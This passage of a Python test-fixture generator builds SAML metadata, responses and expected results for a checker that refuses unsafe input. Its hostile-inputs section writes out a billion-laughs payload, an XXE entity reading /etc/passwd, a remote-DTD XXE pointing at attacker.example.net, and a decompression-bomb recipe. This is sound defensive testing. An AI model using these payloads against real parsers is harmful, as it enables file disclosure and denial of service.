      <md:SingleSignOnService Binding="{REDIRECT}" Location="{ha}/idp/profile/SAML2/Redirect/SSO"/>
    </md:IDPSSODescriptor>
  </md:EntityDescriptor>
  <md:EntityDescriptor entityID="{b}">
    <md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="{PROTOCOL}">
{indent(key_descriptor("college-b", "signing"), 6)}
      <md:SingleLogoutService Binding="{REDIRECT}" Location="{hb}/saml2/slo"/>
      <md:NameIDFormat>{EMAIL}</md:NameIDFormat>
      <md:SingleSignOnService Binding="{POST}" Location="{hb}/saml2/sso"/>
      <md:SingleSignOnService Binding="{REDIRECT}" Location="{hb}/saml2/sso"/>
    </md:IDPSSODescriptor>
  </md:EntityDescriptor>
</md:EntitiesDescriptor>
"""


# --- messages ------------------------------------------------------------------------------------

def attribute(name_: str, value: str) -> str:
    return (f'<saml:Attribute Name="{name_}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">\n'
            f'  <saml:AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" '
            f'xmlns:xsi="{XSI}" xsi:type="xs:string">{value}</saml:AttributeValue>\n</saml:Attribute>')


USER = "jane.doe@example.com"
REQUEST_ID = "_b7e4c1a9d2f34e8a9c0d1e2f3a4b5c6d"
USER_ATTRS = (("uid", USER), ("mail", USER), ("givenName", "Jane"), ("sn", "Doe"), ("displayName", "Jane Doe"))


def response(label: str, *, issuer=IDP_ID, destination=WEBEX_ACS, issued="2026-05-31T23:59:50Z",
             not_before="2026-05-31T23:55:00Z", not_on_or_after="2026-06-01T00:05:00Z", audience=WEBEX_ID,
             attributes=USER_ATTRS, sign_assertion="idp", sign_response=None, sha1=False, status=None,
             assertion="plain") -> str:
    """A Response from the test IdP to the Webex-like SP. `assertion`: 'plain', 'encrypted' or None."""
    rid, aid = ident(f"response/{label}"), ident(f"assertion/{label}")
    head = [f"<saml:Issuer>{issuer}</saml:Issuer>"]
    if sign_response:
        head.append(signature(rid, sign_response, sha1))
    if status:
        code, sub, message = status
        head.append(f"""<samlp:Status>
  <samlp:StatusCode Value="{code}">
    <samlp:StatusCode Value="{sub}"/>
  </samlp:StatusCode>
  <samlp:StatusMessage>{message}</samlp:StatusMessage>
</samlp:Status>""")
    else:
        head.append(f'<samlp:Status>\n  <samlp:StatusCode Value="{SUCCESS}"/>\n</samlp:Status>')
    if assertion == "plain":
        parts = [f"<saml:Issuer>{issuer}</saml:Issuer>"]
        if sign_assertion:
            parts.append(signature(aid, sign_assertion, sha1))
        parts.append(f"""<saml:Subject>
  <saml:NameID Format="{EMAIL}">{USER}</saml:NameID>
  <saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">
    <saml:SubjectConfirmationData InResponseTo="{REQUEST_ID}" NotOnOrAfter="{not_on_or_after}" Recipient="{destination}"/>
  </saml:SubjectConfirmation>
</saml:Subject>
<saml:Conditions NotBefore="{not_before}" NotOnOrAfter="{not_on_or_after}">
  <saml:AudienceRestriction>
    <saml:Audience>{audience}</saml:Audience>
  </saml:AudienceRestriction>
</saml:Conditions>
<saml:AuthnStatement AuthnInstant="{issued}" SessionIndex="{ident(f'session/{label}')}" SessionNotOnOrAfter="2026-06-01T08:00:00Z">
  <saml:AuthnContext>
    <saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef>
  </saml:AuthnContext>
</saml:AuthnStatement>
<saml:AttributeStatement>
{indent(chr(10).join(attribute(n, v) for n, v in attributes), 2)}
</saml:AttributeStatement>""")
        head.append(f'<saml:Assertion ID="{aid}" Version="2.0" IssueInstant="{issued}">\n'
                    + indent("\n".join(parts), 2) + "\n</saml:Assertion>")
    elif assertion == "encrypted":
        key = base64.b64encode(shake(f"cek/{label}", 256)).decode()
        data = base64.b64encode(shake(f"ciphertext/{label}", 1536)).decode()
        # rsa-oaep-mgf1p's ds:DigestMethod sha1 is key transport, not a signature: no sha1_signature.
        head.append(f"""<saml:EncryptedAssertion>
  <xenc:EncryptedData xmlns:xenc="{XENC}" Id="{ident(f'encrypted/{label}')}" Type="http://www.w3.org/2001/04/xmlenc#Element">
    <xenc:EncryptionMethod Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm"/>
    <ds:KeyInfo xmlns:ds="{DS}">
      <xenc:EncryptedKey>
        <xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p">
          <ds:DigestMethod Algorithm="{DIGEST_SHA1}"/>
        </xenc:EncryptionMethod>
        <ds:KeyInfo>
{indent(x509_data("webex-enc", "ds:", declare=False), 10)}
        </ds:KeyInfo>
        <xenc:CipherData>
          <xenc:CipherValue>{key}</xenc:CipherValue>
        </xenc:CipherData>
      </xenc:EncryptedKey>
    </ds:KeyInfo>
    <xenc:CipherData>
      <xenc:CipherValue>{data}</xenc:CipherValue>
    </xenc:CipherData>
  </xenc:EncryptedData>
</saml:EncryptedAssertion>""")
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<samlp:Response xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" '
            f'ID="{rid}" Version="2.0" IssueInstant="{issued}" Destination="{destination}" InResponseTo="{REQUEST_ID}">\n'
            + indent("\n".join(head), 2) + "\n</samlp:Response>\n")


def authn_request() -> str:
    """Webex's AuthnRequest as the Redirect binding carries it: compact, unsigned XML (a Redirect
    signature travels in SigAlg/Signature parameters, which this URL does not carry)."""
    return (f'<samlp:AuthnRequest xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" ID="{REQUEST_ID}" Version="2.0" '
            f'IssueInstant="2026-05-31T23:59:40Z" Destination="{IDP_SSO}" AssertionConsumerServiceURL="{WEBEX_ACS}" '
            f'ProtocolBinding="{POST}"><saml:Issuer>{WEBEX_ID}</saml:Issuer>'
            f'<samlp:NameIDPolicy Format="{UNSPECIFIED}" AllowCreate="true"/></samlp:AuthnRequest>')


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def logout_request() -> str:
    """Webex asks the IdP to end the session (POST binding, signed with the SP's key)."""
    rid = ident("logout-request")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<samlp:LogoutRequest xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" ID="{rid}" Version="2.0" IssueInstant="2026-05-31T23:59:30Z" Destination="{IDP_SLO}" NotOnOrAfter="2026-06-01T00:09:30Z">
  <saml:Issuer>{WEBEX_ID}</saml:Issuer>
{indent(signature(rid, "webex-sign"), 2)}
  <saml:NameID Format="{EMAIL}">{USER}</saml:NameID>
  <samlp:SessionIndex>{ident("session/clean")}</samlp:SessionIndex>
</samlp:LogoutRequest>
"""


def logout_response() -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<samlp:LogoutResponse xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" ID="{ident("logout-response")}" Version="2.0" IssueInstant="2026-05-31T23:59:31Z" Destination="{WEBEX_SLO}" InResponseTo="{ident("logout-request")}">
  <saml:Issuer>{IDP_ID}</saml:Issuer>
  <samlp:Status>
    <samlp:StatusCode Value="{SUCCESS}"/>
  </samlp:Status>
</samlp:LogoutResponse>
"""


# --- hostile inputs and recipes ------------------------------------------------------------------

LONG_HEAD = f'<md:EntityDescriptor xmlns:md="{MD}" entityID="'
LONG_TAIL = '"/>'
ZEROS_CHUNK = MIB


def zeros_segment() -> bytes:
    """Raw DEFLATE of 1 MiB of zeros, from a fresh compressor, ended by a full flush: byte-aligned,
    not final and referring to nothing before it, so copies of it can be concatenated."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(bytes(ZEROS_CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)


FINAL_EMPTY_BLOCK = b"\x03\x00"  # BFINAL=1, fixed Huffman, end-of-block


def generate(recipe: dict):
    """The input a recipe describes (str). Same as generate.mjs; README.md, "Recipes"."""
    kind = recipe["generate"]
    if kind == "nested":
        return "<a>" * recipe["depth"] + "</a>" * recipe["depth"]
    if kind == "siblings":
        return "<a>" + "<b/>" * recipe["count"] + "</a>"
    if kind == "long_attribute":
        return LONG_HEAD + "a" * recipe["valueLength"] + LONG_TAIL
    if kind == "certificates":
        return recipe["head"] + recipe["each"] * recipe["count"] + recipe["tail"]
    if kind == "deflate_zeros_base64":
        return base64.b64encode(base64.b64decode(recipe["segment"]) * recipe["times"] + FINAL_EMPTY_BLOCK).decode()
    raise ValueError(f"unknown recipe {kind}")


def recipe(**r) -> dict:
    text = generate(r).encode()
    return {**r, "length": len(text), "sha256": hashlib.sha256(text).hexdigest()}


def certificates_recipe(count: int) -> dict:
    head = (f'<md:EntityDescriptor xmlns:md="{MD}" entityID="{IDP_ID}"><md:IDPSSODescriptor '
            f'protocolSupportEnumeration="{PROTOCOL}">')
    each = (f'<md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="{DS}"><ds:X509Data><ds:X509Certificate>'
            f'{b64cert("idp")}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>')
    tail = (f'<md:SingleLogoutService Binding="{REDIRECT}" Location="{IDP_SLO}"/>'
            f'<md:SingleSignOnService Binding="{POST}" Location="{IDP_SSO}"/>'
            "</md:IDPSSODescriptor></md:EntityDescriptor>")
    return recipe(generate="certificates", count=count, head=head, each=each, tail=tail)


BILLION_LAUGHS = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE md:EntityDescriptor [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<md:EntityDescriptor xmlns:md="{MD}" entityID="https://idp.example.com/&lol9;">
  <md:Organization>
    <md:OrganizationName xml:lang="en">&lol9;</md:OrganizationName>
    <md:OrganizationDisplayName xml:lang="en">laughs</md:OrganizationDisplayName>
    <md:OrganizationURL xml:lang="en">https://www.example.com/</md:OrganizationURL>
  </md:Organization>
</md:EntityDescriptor>
"""

XXE = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE md:EntityDescriptor [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<md:EntityDescriptor xmlns:md="{MD}" entityID="{IDP_ID}">
  <md:Organization>
    <md:OrganizationName xml:lang="en">&xxe;</md:OrganizationName>
    <md:OrganizationDisplayName xml:lang="en">Example Corp</md:OrganizationDisplayName>
    <md:OrganizationURL xml:lang="en">https://www.example.com/</md:OrganizationURL>
  </md:Organization>
</md:EntityDescriptor>
"""

XXE_PARAMETER = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE samlp:Response [
  <!ENTITY % remote SYSTEM "https://attacker.example.net/evil.dtd">
  %remote;
]>
<samlp:Response xmlns:samlp="{SAMLP}" ID="_x" Version="2.0" IssueInstant="2026-05-31T23:59:50Z">
  <samlp:Status><samlp:StatusCode Value="{SUCCESS}"/></samlp:Status>
</samlp:Response>
"""

NOT_SAML = """<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml">
  <head><title>Sign in</title></head>
  <body>
    <form method="post" action="https://idbroker.webex.com/idb/Consumer/metaAlias/x/sp">
      <input type="hidden" name="SAMLResponse" value=""/>
    </form>
  </body>
</html>
"""

RANDOM_TEXT = ("Hi team, the SSO test failed again this morning; could you send me the metadata file?\n"
               "Thanks! -- Jane\n")


def padded_metadata(total: int) -> str:
    """The clean IdP metadata, padded with a comment to exactly `total` bytes."""
    base = idp_metadata()
    filler = total - len(base.encode()) - len("<!--  -->\n")
    text = base + "<!-- " + "x" * filler + " -->\n"
    assert len(text.encode()) == total
    return text


# --- the oracle: the contract's rules read a second time, over the files as written ---------------

class Refused(Exception):
    pass


def q(ns: str, local: str) -> str:
    return f"{{{ns}}}{local}"


def read_input(data, now=NOW):
    """(encoding, root element) for an input, or raises Refused(code). str or bytes."""
    if isinstance(data, bytes):
        if len(data) > MIB:
            raise Refused("input_too_large")
        try:
            data = data.decode("utf-8")
        except UnicodeDecodeError:
            raise Refused("xml_malformed")
    if len(data.encode()) > MIB:
        raise Refused("input_too_large")
    s = data.lstrip("\ufeff \t\r\n")
    if s.startswith("<"):
        return "xml", parse_xml(s.encode())
    if "SAMLRequest=" in s or "SAMLResponse=" in s:
        encoding = "url"
        query = urllib.parse.parse_qs(s.split("?", 1)[-1])
        s = (query.get("SAMLRequest") or query.get("SAMLResponse"))[0]
    else:
        encoding = "base64"
    try:
        raw = base64.b64decode(re.sub(r"\s+", "", s), validate=True)
    except ValueError:
        raise Refused("not_saml")
    if not raw.lstrip(b"\xef\xbb\xbf \t\r\n").startswith(b"<"):
        d = zlib.decompressobj(-15)
        try:
            raw = d.decompress(raw, MIB + 1)
        except zlib.error:
            raise Refused("not_saml")
        if len(raw) > MIB:
            raise Refused("inflated_too_large")
        if not d.eof:
            raise Refused("not_saml")
        encoding = "deflate" if encoding == "base64" else encoding
    return encoding, parse_xml(raw)


def parse_xml(raw: bytes):
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        raise Refused("xml_malformed")
    state = {"depth": 0, "count": 0}

    def start(*_):
        state["depth"] += 1
        state["count"] += 1
        if state["depth"] > 64:
            raise Refused("xml_too_deep")
        if state["count"] > 20000:
            raise Refused("xml_too_many_elements")

    def end(*_):
        state["depth"] -= 1

    def doctype(*_):
        raise Refused("xml_dtd_refused")

    p = xml.parsers.expat.ParserCreate(namespace_separator=" ")
    p.StartElementHandler, p.EndElementHandler, p.StartDoctypeDeclHandler = start, end, doctype
    try:
        p.Parse(raw, True)
    except xml.parsers.expat.ExpatError:
        raise Refused("xml_malformed")
    root = ET.fromstring(raw)  # safe now: no DOCTYPE, bounded
    if root.tag not in (q(MD, "EntityDescriptor"), q(MD, "EntitiesDescriptor"), q(SAMLP, "Response"),
                        q(SAMLP, "AuthnRequest"), q(SAMLP, "LogoutRequest"), q(SAMLP, "LogoutResponse")):
        raise Refused("not_saml")
    if len(root.findall(f".//{q(DS, 'X509Certificate')}")) > 64:
        raise Refused("too_many_certificates")
    return root


def cert_of(element) -> x509.Certificate:
    return x509.load_der_x509_certificate(base64.b64decode(re.sub(r"\s+", "", element.text)))


def fingerprint(cert) -> str:
    return cert.fingerprint(hashes.SHA256()).hex()


def cert_codes(cert, now) -> set:
    codes = set()
    if cert.not_valid_after_utc <= now:
        codes.add("certificate_expired")
    if cert.not_valid_before_utc > now:
        codes.add("certificate_not_yet_valid")
    if now < cert.not_valid_after_utc <= now + datetime.timedelta(days=60):
        codes.add("certificate_expires_soon")
    if isinstance(cert.public_key(), rsa.RSAPublicKey) and cert.public_key().key_size < 2048:
        codes.add("weak_key")
    if cert.signature_algorithm_oid.dotted_string in ("1.2.840.113549.1.1.5", "1.2.840.10045.4.1", "1.2.840.10040.4.3"):
        codes.add("sha1_signature")
    return codes


def signature_codes(sig) -> set:
    codes = {"signature_not_verified"}
    for tag in ("SignatureMethod", "DigestMethod"):
        for el in sig.iter(q(DS, tag)):
            if re.search(r"sha1$", el.get("Algorithm", "")):
                codes.add("sha1_signature")
    return codes


def insecure(url) -> bool:
    return url is not None and url.strip().lower().startswith("http:")


ALLOWED_NAMEIDS = {TRANSIENT, UNSPECIFIED, EMAIL}
ROLES = {q(MD, "IDPSSODescriptor"): "idp", q(MD, "SPSSODescriptor"): "sp"}


def metadata_facts(root, now):
    codes, certs, entities = set(), [], []
    sig = root.find(q(DS, "Signature"))
    codes |= signature_codes(sig) if sig is not None else {"metadata_unsigned"}
    for el in root.iter(q(DS, "X509Certificate")):
        cert = cert_of(el)
        certs.append(cert)
        codes |= cert_codes(cert, now)
    for el in [root, *root.iter()]:
        vu = el.get("validUntil")
        if vu and el.tag.startswith(f"{{{MD}}}") and datetime.datetime.fromisoformat(vu.replace("Z", "+00:00")) <= now:
            codes.add("metadata_expired")
    descriptors = [root] if root.tag == q(MD, "EntityDescriptor") else list(root.iter(q(MD, "EntityDescriptor")))
    for entity in descriptors:
        eid = entity.get("entityID")
        if re.search(r"\s", eid):
            codes.add("entity_id_whitespace")
        roles, nameids = [], []
        for role in entity:
            kind = ROLES.get(role.tag)
            if kind is None:
                continue
            roles.append(kind)
            seen = set()
            for kd in role.findall(q(MD, "KeyDescriptor")):
                for el in kd.iter(q(DS, "X509Certificate")):
                    key = (kd.get("use"), fingerprint(cert_of(el)))
                    if key in seen:
                        codes.add("duplicate_certificate")
                    seen.add(key)
            for tag in ("SingleSignOnService", "SingleLogoutService", "AssertionConsumerService"):
                if any(insecure(e.get("Location")) for e in role.findall(q(MD, tag))):
                    codes.add("insecure_endpoint")
            formats = [e.text.strip() for e in role.findall(q(MD, "NameIDFormat"))]
            nameids = nameids or formats
            if kind != "idp":
                continue
            signing_certs = {fingerprint(cert_of(el)): cert_of(el) for kd in role.findall(q(MD, "KeyDescriptor"))
                             if kd.get("use") in (None, "signing") for el in kd.iter(q(DS, "X509Certificate"))}
            if not signing_certs:
                codes.add("no_signing_certificate")
            if len(signing_certs) == 1 and next(iter(signing_certs.values())).not_valid_after_utc <= now + datetime.timedelta(days=60):
                codes.add("no_rollover_certificate")
            if not role.findall(q(MD, "SingleLogoutService")):
                codes.add("no_single_logout")
            if not any(e.get("Binding") in (POST, REDIRECT) for e in role.findall(q(MD, "SingleSignOnService"))):
                codes.add("no_sso_service")
            if formats and not ALLOWED_NAMEIDS & set(formats):
                codes.add("nameid_format_unsupported")
        entities.append({"entityId": eid, "roles": roles, "nameIdFormats": nameids})
    if not any("idp" in e["roles"] for e in entities):
        codes.add("not_an_idp")
    return {"codes": codes, "entities": entities, "certificates": certs, "signed": sig is not None}


def iso(text) -> datetime.datetime:
    return datetime.datetime.fromisoformat(text.replace("Z", "+00:00"))


def message_facts(root, now, metadata_roots):
    codes, embedded = set(), []
    local = root.tag.split("}")[1]
    kind = {"Response": "response", "AuthnRequest": "request"}.get(local, "logout")
    msg_sig = root.find(q(DS, "Signature"))
    assertion = root.find(q(SAML, "Assertion"))
    asr_sig = assertion.find(q(DS, "Signature")) if assertion is not None else None
    for sig in (msg_sig, asr_sig):
        if sig is not None:
            codes |= signature_codes(sig)
            for el in sig.iter(q(DS, "X509Certificate")):
                embedded.append(cert_of(el))
                codes |= cert_codes(embedded[-1], now)
    if insecure(root.get("Destination")) or insecure(root.get("AssertionConsumerServiceURL")):
        codes.add("insecure_endpoint")
    status = root.find(f"{q(SAMLP, 'Status')}/{q(SAMLP, 'StatusCode')}")
    if status is not None and status.get("Value") != SUCCESS:
        codes.add("status_not_success")
    uid, audiences = None, []
    if assertion is not None:
        cond = assertion.find(q(SAML, "Conditions"))
        if cond is not None:
            if cond.get("NotOnOrAfter") and now >= iso(cond.get("NotOnOrAfter")):
                codes.add("conditions_expired")
            if cond.get("NotBefore") and now < iso(cond.get("NotBefore")):
                codes.add("conditions_not_yet_valid")
            audiences = [a.text.strip() for a in cond.iter(q(SAML, "Audience"))]
        uid = any(a.get("Name") == "uid" for a in assertion.iter(q(SAML, "Attribute")))
        if not uid:
            codes.add("missing_uid")
    if root.find(q(SAML, "EncryptedAssertion")) is not None:
        codes.add("assertion_encrypted")
    if kind == "response" and msg_sig is None and asr_sig is None:
        codes.add("message_unsigned")
    in_metadata = None
    if metadata_roots:
        facts = [metadata_facts(m, now) for m in metadata_roots]
        known = {fingerprint(c) for f in facts for c in f["certificates"]}
        if embedded:
            in_metadata = any(fingerprint(c) in known for c in embedded)
            if not in_metadata:
                codes.add("signature_certificate_not_in_metadata")
        idps = [e["entityId"] for f in facts for e in f["entities"] if "idp" in e["roles"]]
        sps = [e["entityId"] for f in facts for e in f["entities"] if "sp" in e["roles"]]
        issuer = root.find(q(SAML, "Issuer"))
        if kind == "response" and idps and (issuer is None or issuer.text.strip() not in idps):
            codes.add("issuer_mismatch")
        if kind == "response" and sps and not set(audiences) & set(sps):
            codes.add("audience_mismatch")
    return {"kind": kind, "codes": codes, "uidPresent": uid, "signatureCertificateInMetadata": in_metadata,
            "certificates": embedded, "audiences": audiences,
            "signaturesPresent": {"message": msg_sig is not None, "assertion": asr_sig is not None},
            "status": None if status is None else {"code": status.get("Value"),
                                                    "subCode": (status.find(q(SAMLP, "StatusCode")).get("Value")
                                                                if status.find(q(SAMLP, "StatusCode")) is not None else None)}}


def load(entry):
    if isinstance(entry, dict):
        return generate(entry)
    path = HERE / entry
    return path.read_bytes() if path.suffix == ".bin" else path.read_text(encoding="utf-8")


def oracle(case) -> dict:
    """What the contract's rules give for a case, in the shape of `expect`."""
    try:
        encoding, root = read_input(load(case["file"]))
        metadata = [read_input(load(m))[1] for m in case.get("metadata", [])]
    except Refused as r:
        return {"error": str(r)}
    if root.tag in (q(MD, "EntityDescriptor"), q(MD, "EntitiesDescriptor")):
        f = metadata_facts(root, NOW)
        return {"kind": "metadata", "encoding": encoding, "codes": sorted(f["codes"]),
                "entities": len(f["entities"]), "certificates": len(f["certificates"]),
                "entityIds": [e["entityId"] for e in f["entities"]],
                "nameIdFormats": f["entities"][0]["nameIdFormats"], "roles": f["entities"][0]["roles"],
                "metadataSignaturePresent": f["signed"]}
    f = message_facts(root, NOW, metadata)
    return {"kind": f["kind"], "encoding": encoding, "codes": sorted(f["codes"]), "uidPresent": f["uidPresent"],
            "signatureCertificateInMetadata": f["signatureCertificateInMetadata"],
            "certificates": len(f["certificates"]), "audiences": f["audiences"],
            "signaturesPresent": f["signaturesPresent"], "status": f["status"]}


# --- the cases -----------------------------------------------------------------------------------

FILES = {}   # name -> str or bytes
CASES = []


def put(name_: str, content) -> str:
    FILES[name_] = content
    return f"fixtures/{name_}"


def case(name_, file, expect, metadata=None, note=None, bytes_=False):
    c = {"name": name_}
    if note:
        c["note"] = note
    c["file"] = file
    if bytes_:
        c["bytes"] = True
    if metadata:
        c["metadata"] = metadata
    c["now"] = NOW_TEXT
    c["expect"] = expect
    CASES.append(c)


def md(codes, encoding="xml", **more):
    return {"kind": "metadata", "encoding": encoding, "codes": sorted(set(codes)), **more}


def msg(kind, codes, encoding="xml", **more):
    return {"kind": kind, "encoding": encoding, "codes": sorted(set(codes)), **more}


U = "metadata_unsigned"
SNV = "signature_not_verified"


def build_cases():
    idp1 = {"entities": 1, "roles": ["idp"]}
    # 1. one problem per metadata file
    clean = put("idp-clean.xml", idp_metadata())
    case("metadata: clean IdP", clean, md([U], **idp1, certificates=2, entityIds=[IDP_ID],
                                          nameIdFormats=[EMAIL, TRANSIENT], metadataSignaturePresent=False))
    case("metadata: signing certificate expired 2026-01-01 (the only one)",
         put("idp-cert-expired.xml", idp_metadata(keys=[("idp-expired", "signing")])),
         md([U, "certificate_expired", "no_rollover_certificate"], **idp1, certificates=1))
    case("metadata: signing certificate expired exactly at now (notAfter == now)",
         put("idp-cert-expires-at-now.xml", idp_metadata(keys=[("idp-at-now", "signing")])),
         md([U, "certificate_expired", "no_rollover_certificate"], **idp1))
    case("metadata: single signing certificate expiring in 10 days",
         put("idp-cert-expires-soon.xml", idp_metadata(keys=[("idp-soon", "signing")])),
         md([U, "certificate_expires_soon", "no_rollover_certificate"], **idp1, certificates=1))
    case("metadata: single signing certificate expiring in exactly 60 days",
         put("idp-cert-expires-in-60-days.xml", idp_metadata(keys=[("idp-60d", "signing")])),
         md([U, "certificate_expires_soon", "no_rollover_certificate"], **idp1))
    case("metadata: single signing certificate expiring in 60 days and 1 second",
         put("idp-cert-expires-in-60-days-1s.xml", idp_metadata(keys=[("idp-60d-1s", "signing")])),
         md([U], **idp1))
    case("metadata: rollover pair, old expiring in 10 days and new valid to 2029",
         put("idp-cert-rollover.xml", idp_metadata(keys=[("idp-soon", "signing"), ("idp-next", "signing")])),
         md([U, "certificate_expires_soon"], **idp1, certificates=2))
    case("metadata: next signing certificate published before its notBefore",
         put("idp-cert-not-yet-valid.xml", idp_metadata(keys=[("idp", "signing"), ("idp-future", "signing")])),
         md([U, "certificate_not_yet_valid"], **idp1, certificates=2))
    case("metadata: RSA 1024 signing key", put("idp-weak-key.xml", idp_metadata(keys=[("idp-weak", "signing")])),
         md([U, "weak_key"], **idp1, certificates=1))
    case("metadata: signing certificate signed with sha1WithRSAEncryption",
         put("idp-cert-sha1.xml", idp_metadata(keys=[("idp-sha1", "signing")])),
         md([U, "sha1_signature"], **idp1, certificates=1))
    case("metadata: EC P-256 signing certificate from a CA (no weak_key for a 256-bit EC key)",
         put("idp-cert-ec-p256.xml", idp_metadata(keys=[("idp-ec", "signing")])), md([U], **idp1, certificates=1))
    case("metadata: HTTP-POST SSO endpoint on http:",
         put("idp-http-sso.xml", idp_metadata(sso=[(REDIRECT, IDP_SSO), (POST, "http://idp.example.com/saml/sso")])),
         md([U, "insecure_endpoint"], **idp1))
    case("metadata: no SingleLogoutService", put("idp-no-slo.xml", idp_metadata(slo=())),
         md([U, "no_single_logout"], **idp1))
    case("metadata: only the persistent NameIDFormat",
         put("idp-nameid-persistent.xml", idp_metadata(nameids=[PERSISTENT])),
         md([U, "nameid_format_unsupported"], **idp1, nameIdFormats=[PERSISTENT]))
    case("metadata: no NameIDFormat at all (no finding)", put("idp-no-nameid-format.xml", idp_metadata(nameids=())),
         md([U], **idp1, nameIdFormats=[]))
    case("metadata: validUntil in the past (2026-05-01)",
         put("idp-valid-until-past.xml", idp_metadata(valid_until="2026-05-01T00:00:00Z")),
         md([U, "metadata_expired"], **idp1))
    case("metadata: validUntil exactly now, on the IDPSSODescriptor",
         put("idp-role-valid-until-now.xml", role_valid_until(NOW_TEXT)),
         md([U, "metadata_expired"], **idp1))
    case("metadata: entityID with a trailing space and newline",
         put("idp-entity-id-whitespace.xml", idp_metadata(entity_id=IDP_ID + " \n")),
         md([U, "entity_id_whitespace"], **idp1))
    case("metadata: the same signing certificate twice",
         put("idp-duplicate-certificate.xml", idp_metadata(keys=[("idp", "signing"), ("idp", "signing"),
                                                                 ("idp-enc", "encryption")])),
         md([U, "duplicate_certificate"], **idp1))
    case("metadata: KeyDescriptor without use counts as signing (no no_signing_certificate)",
         put("idp-key-no-use.xml", idp_metadata(keys=[("idp", None)])), md([U], **idp1, certificates=1))
    case("metadata: EntitiesDescriptor with two IdPs", put("federation-two-idps.xml", federation()),
         md([U], entities=2, certificates=2, entityIds=["https://idp.university-a.example.edu/idp/shibboleth",
                                                        "https://login.college-b.example.org/saml2/idp"]))
    case("metadata: SSO only over SOAP and HTTP-Artifact",
         put("idp-no-sso-binding.xml", idp_metadata(sso=[(SOAP, "https://idp.example.com/saml/ecp"),
                                                         (ARTIFACT, IDP_SSO)])),
         md([U, "no_sso_service"], **idp1))
    case("metadata: only an encryption certificate",
         put("idp-encryption-only.xml", idp_metadata(keys=[("idp-enc", "encryption")])),
         md([U, "no_signing_certificate"], **idp1, certificates=1))
    case("metadata: Webex-like SP metadata (SPSSODescriptor only)", put("webex-sp.xml", webex_sp()),
         md([U, "not_an_idp"], entities=1, roles=["sp"], certificates=2, entityIds=[WEBEX_ID],
            nameIdFormats=[TRANSIENT, UNSPECIFIED, EMAIL]))
    case("metadata: signed (rsa-sha256), signature present but not verified",
         put("idp-signed-sha256.xml", idp_metadata(sig=("idp", False))),
         md([SNV], **idp1, metadataSignaturePresent=True))
    case("metadata: signed with rsa-sha1 and a sha1 digest",
         put("idp-signed-sha1.xml", idp_metadata(sig=("idp", True))),
         md([SNV, "sha1_signature"], **idp1, metadataSignaturePresent=True))
    case("metadata: UTF-8 byte order mark before the XML declaration",
         put("idp-bom.xml", "\ufeff" + idp_metadata()), md([U], **idp1))

    # 2. layouts of common IdPs
    case("metadata: AD FS FederationMetadata.xml during certificate rollover (primary expires in 20 days)",
         put("adfs-federationmetadata.xml", adfs()),
         md([SNV, "certificate_expires_soon"], entities=1, entityIds=[ADFS_ID], metadataSignaturePresent=True))
    case("metadata: Microsoft Entra ID application federation metadata", put("entra-id.xml", entra()),
         md([SNV], entities=1, roles=["idp"], entityIds=[f"https://sts.windows.net/{TENANT}/"], nameIdFormats=[],
            metadataSignaturePresent=True))
    case("metadata: Okta app metadata (compact, no SLO)", put("okta.xml", okta()),
         md([U, "no_single_logout"], **idp1, certificates=1, nameIdFormats=[UNSPECIFIED, EMAIL]))
    case("metadata: PingFederate export (KeyDescriptor without use, certificate expires in 44 days)",
         put("pingfederate.xml", pingfederate()),
         md([U, "certificate_expires_soon", "no_rollover_certificate"], **idp1, certificates=1,
            entityIds=["https://sso.example.com"], nameIdFormats=[UNSPECIFIED]))

    # 3. messages
    both = [clean, "fixtures/webex-sp.xml"]
    clean_response = response("clean")
    r_clean = put("response-clean.xml", clean_response)
    case("response: clean, signed assertion, against the IdP and SP metadata", r_clean,
